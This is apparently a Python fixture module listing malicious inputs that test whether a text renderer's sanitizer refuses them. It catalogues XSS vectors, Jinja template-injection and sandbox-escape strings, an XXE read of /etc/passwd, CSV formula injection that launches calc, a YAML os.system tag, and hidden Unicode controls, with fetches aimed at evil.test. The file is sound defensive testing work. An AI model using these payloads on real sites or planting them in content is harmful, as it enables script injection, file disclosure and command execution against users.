"""What somebody might type into a field to have their words run, hide, or end up where no words belong.

Each payload says what the rules have to say of it: `EVERYWHERE` means that it is refused in every text,
`PROSE` in those that may hold marks (elsewhere they are letters like any others), `NOWHERE` that it is taken
as words. Whether the rules refuse it or not, the renderer has to hold by itself: `tests.test_matrix` builds
them all. What would run calls `pwned` or `alert`; what would be fetched is on `evil.test`.
"""

from __future__ import annotations

from typing import NamedTuple

EVERYWHERE, PROSE, NOWHERE = "every text", "prose", "nowhere"


class Payload(NamedTuple):
    """A text with bad intentions, and where the rules refuse it."""

    name: str
    text: str
    refused: str


def _all(refused: str, **texts: str) -> list[Payload]:
    return [Payload(name.replace("_", "-"), text, refused) for name, text in texts.items()]


_TAGS = _all(
    EVERYWHERE,
    script="<script>pwned(1)</script>",
    script_upper="<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    script_slash="<script/src=https://evil.test/x.js></script>",
    script_split="<scr<script>ipt>pwned(1)</scr</script>ipt>",
    script_module='<script type="module">pwned(1)</script>',
    img_onerror="<img src=x onerror=pwned(1)>",
    img_quotes='"><img src=x onerror="pwned(1)">',
    img_single_quote="'><img src=x onerror='pwned(1)'>",
    img_unclosed="<img src=x onerror=pwned(1) ",
    svg_onload="<svg onload=pwned(1)>",
    svg_slash="<svg/onload=pwned(1)>",
    svg_script="<svg><script>pwned(1)</script></svg>",
    svg_animate="<svg><animate onbegin=pwned(1) attributeName=x dur=1s></svg>",
    svg_use='<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zz4="/></svg>',
    math='<math><maction actiontype="statusline" xlink:href="javascript:pwned(1)">x</maction></math>',
    iframe='<iframe srcdoc="<script>parent.pwned(1)</script>"></iframe>',
    iframe_src='<iframe src="javascript:parent.pwned(1)"></iframe>',
    object_data='<object data="data:text/html,<script>pwned(1)</script>"></object>',
    embed="<embed src=https://evil.test/x.swf>",
    details="<details open ontoggle=pwned(1)>",
    focus="<input autofocus onfocus=pwned(1)>",
    form='<form action="https://evil.test/"><button formaction="javascript:pwned(1)">Go</button></form>',
    style_element="<style>@import 'https://evil.test/x.css';body{display:none}</style>",
    style_attribute='<p style="background:url(https://evil.test/x)">x</p>',
    link_element='<link rel="stylesheet" href="https://evil.test/x.css">',
    meta_refresh='<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    base_element='<base href="https://evil.test/">',
    anchor_javascript='<a href="javascript:pwned(1)">click</a>',
    video="<video><source onerror=pwned(1)></video>",
    template_element="<template><script>pwned(1)</script></template>",
    close_script="</script><script>pwned(1)</script>",
    close_style="</style><img src=x onerror=pwned(1)>",
    close_title="</title><script>pwned(1)</script>",
    close_textarea="</textarea><img src=x onerror=pwned(1)>",
    close_body="</head></body></html><script>pwned(1)</script>",
    close_noscript="</noscript><img src=x onerror=pwned(1)>",
    comment="<!-- hidden words --><b>pwned</b>",
    comment_open="<!-- pwned and everything after it",
    comment_close="--><script>pwned(1)</script><!--",
    comment_bang="<!--><img src=x onerror=pwned(1)>-->",
    cdata="<![CDATA[<script>pwned(1)</script>]]>",
    cdata_close="]]><script>pwned(1)</script>",
    doctype='<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    instruction='<?xml version="1.0"?><?php pwned(1) ?>',
    entity_tag="&lt;script&gt;pwned(1)&lt;/script&gt;",
    entity_number="&#60;script&#62;pwned(1)&#60;/script&#62;",
    entity_hex="&#x3c;img src=x onerror=pwned(1)&#x3e;",
    attribute_break='" onmouseover="pwned(1)" x="<b >',
    css_expression="<div style=width:expression(pwned(1))>x</div>",
    mxss="<noscript><p title='</noscript><img src=x onerror=pwned(1)>'>",
    markdown_in_html='<div markdown="1">*x* <b onclick=pwned(1)>y</b></div>',
)
_TEMPLATES = _all(
    EVERYWHERE,
    jinja_sum="The sum is {{ 7 * 191 }} here",
    jinja_class="{{ ''.__class__.__mro__[1].__subclasses__() }}",
    jinja_config="{{ config.site_name }} {{ environment }}",
    jinja_block="{% raw %}{% endraw %}{% include 'README.md' %}",
    jinja_comment="{# all of this is hidden #} shown",
    jinja_end="}} %} #} left open",
    jinja_macro="{{ barrier('silos') }}",
    attribute_list="Words {: onclick=pwned(1) .big #top }",
    attribute_list_line="A title {: #content style=display:none }",
    anchor_list="A title { #content .md-button }",
)
_LINKS = _all(
    PROSE,
    link_javascript="[words](javascript:pwned(1))",
    link_mixed_case="[words](JaVaScRiPt:pwned(1))",
    link_angle="[words](<javascript:pwned(1)>)",
    link_angle_space="[words](< javascript:pwned(1)>)",
    link_percent="[words](javascript%3Apwned(1))",
    link_reference="[words][1]\n\n[1]: javascript:pwned(1)",
    link_reference_short="[words]\n\n[words]: vbscript:pwned(1)",
    link_autolink="<javascript:pwned(1)>",
    link_data="[words](data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==)",
    link_vbscript="[words](vbscript:msgbox(1))",
    link_file="[words](file:///etc/passwd)",
    link_http="[words](http://evil.test/)",
    link_no_scheme="[words](//evil.test/x)",
    link_backslash=r"[words](\\\\evil.test/x)",
    link_user="[words](https://guide.test@evil.test/)",
    link_relative="[words](../../../etc/passwd)",
    link_fragment="[words](#javascript:pwned(1))",
    link_blob="[words](blob:https://evil.test/x)",
    link_title='[words](javascript:pwned(1) "a title\\" onclick=pwned(1)")',
    link_kind='[words](barrier:silos"onclick=pwned(1))',
    picture="![words](https://evil.test/x.png)",
    picture_javascript="![words](javascript:pwned(1))",
    code_fence="```html\npwned(1)\n```",
    heading="# A heading of its own",
    heading_ruled="Words\n=====",
    quotation="> said somebody",
)
_ENTITY_LINKS = _all(
    EVERYWHERE,
    link_entity_tab="[words](java&Tab;script:alert(1))",
    link_entities="[words](&#106;avascript:pwned(1))",
    link_entity_colon="[words](javascript&colon;pwned(1))",
    link_html_quotes='[words](https://evil.test/"><script>pwned(1)</script>)',
)
_UNSEEN = _all(
    EVERYWHERE,
    bidi_override="\u202eabout \u202cleaders",
    bidi_isolate="about \u2067leaders\u2069 \u2066here",
    bidi_marks="about\u200f leaders\u200e and\u061c more",
    null="nothing\x00<here>"[:8],
    escape="colours \x1b[31mred\x1b]8;;https://evil.test\x07",
    backspace="good\x08\x08\x08\x08bad\x7f",
    c1_controls="next\x85line \x9bcsi",
    zero_width="pass\u200bword\u2060s\ufeff",
    line_separator="one\u2028two\u2029three",
    tags_block="flag\U000e0041\U000e007f",
    link_control="[words](java\x01script:pwned(1))",
    combining="Z" + "\u0301\u0323\u0336" * 60,
    lone_accent="words \u0301\u0336 and more",
    joiners="w\u200do\u200dr\u200cd\u200ds",
    selectors="w\ufe0fo\ufe01r\U000e0101d",
    private="words \ue000\U000f0001 and \ufffd",
    half="words \ud83d and more",
    no_character="words \uffff and \U0001fffe",
)
_WORDS = _all(
    NOWHERE,
    snippet='--8<-- "LICENSE"',
    snippet_block="--8<--\nLICENSE\n--8<--",
    frame_marks="framecontentmark frametitlemark framemetadatamark",
    frame_file="frameidmark/framefilemark",
    downloads_mark='div id="downloads"',
    bare_javascript="javascript:pwned(1)",
    quotes="He said \"no\" and 'maybe' ` and then",
    backslashes=r"C:\new\table \u003cscript\u003e pwned(1)",
    json_break='"},{"title":"pwned","url":"javascript:pwned(1)"}];pwned(1)//',
    csv_equals='=HYPERLINK("https://evil.test/","click")',
    csv_plus="+1+cmd|' /C calc'!A0",
    csv_minus="-2+3+cmd|' /C calc'!A0",
    csv_at="@SUM(1+1)*cmd|' /C calc'!A0",
    csv_separators='one,two;three "four"',
    braces_single="a {brace} and an {other: one}",
    yaml_tag="!!python/object/apply:os.system ['pwned']",
    yaml_anchor="&anchor-x *alias-x <<: merged",
    yaml_document="--- pwned: true ...",
    css_words="body { background: url(https://evil.test/x) }",
    template_literal="${pwned(1)} `${alert(1)}`",
    prototype="__proto__ constructor toString",
    percent_codes="%3Cscript%3Epwned(1)%3C/script%3E %00 %0d%0aSet-Cookie: x",
    full_width="＜script＞pwned(1)＜/script＞",
    less_than="3 < 4 and 5 > 2, <3",
    long_word="Donaudampfschifffahrtsgesellschaft" * 40,
    long_mix='leaders\' "care" ' + "W" * 250,
    right_to_left="שלום עולם العربية",
    emoji="Families 👩‍👩‍👧‍👦 🏴 \U0001f3f4",
)
PAYLOADS: tuple[Payload, ...] = (*_TAGS, *_TEMPLATES, *_LINKS, *_ENTITY_LINKS, *_UNSEEN, *_WORDS)
